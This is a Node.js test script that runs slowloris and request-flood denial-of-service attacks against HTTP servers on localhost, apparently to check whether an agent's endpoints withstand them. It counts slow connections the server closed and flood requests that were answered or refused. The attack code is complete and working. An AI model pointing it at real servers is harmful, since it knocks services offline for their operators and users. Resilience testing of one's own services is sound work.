// A slowloris and request flood against HTTP servers on 127.0.0.1, run as its own process so
// that the attacker does not share the event loop of the agent it attacks.
// argv[2]: JSON { ports: number[], slow: number, flood: number, byteEveryMs: number }.
// Runs until its stdin closes, then prints one JSON line of counts and exits.
import { connect } from 'node:net';

const { ports, slow, flood, byteEveryMs } = JSON.parse(process.argv[2]);
const stats = { slowOpened: 0, slowClosedByServer: 0, floodAnswered: 0, floodRefused: 0, statuses: {} };
let stopping = false;
const sockets = new Set();

function track(socket) {
  sockets.add(socket);
  socket.once('close', () => sockets.delete(socket));
  return socket;
}

// Headers that never end: one more byte every byteEveryMs; reopened when the server closes it.
function slowloris(port) {
  if (stopping) return;
  const socket = track(connect({ host: '127.0.0.1', port }));
  let timer;
  socket.on('connect', () => {
    stats.slowOpened++;
    socket.write('GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ');
    timer = setInterval(() => socket.write('a'), byteEveryMs);
  });
  socket.on('data', () => {});
  socket.on('error', () => {});
  socket.on('close', () => {
    clearInterval(timer);
    if (stopping) return;
    stats.slowClosedByServer++;
    setTimeout(() => slowloris(port), 10);
  });
}

// Back-to-back complete requests, one connection each.
function flooder(port) {
  if (stopping) return;
  const socket = track(connect({ host: '127.0.0.1', port }));
  let got = '';
  socket.on('connect', () => socket.write('GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'));
  socket.on('data', (d) => (got += d.toString('latin1')));
  socket.on('error', () => {});
  socket.on('close', () => {
    const m = /^HTTP\/1\.1 (\d{3})/.exec(got);
    if (m) {
      stats.floodAnswered++;
      stats.statuses[m[1]] = (stats.statuses[m[1]] ?? 0) + 1;
    } else stats.floodRefused++;
    setImmediate(() => flooder(port));
  });
}

for (const port of ports) {
  for (let i = 0; i < slow; i++) slowloris(port);
  for (let i = 0; i < flood; i++) flooder(port);
}

process.stdin.resume();
process.stdin.on('end', () => {
  stopping = true;
  for (const s of sockets) s.destroy();
  process.stdout.write(`${JSON.stringify(stats)}\n`);
  process.exit(0);
});
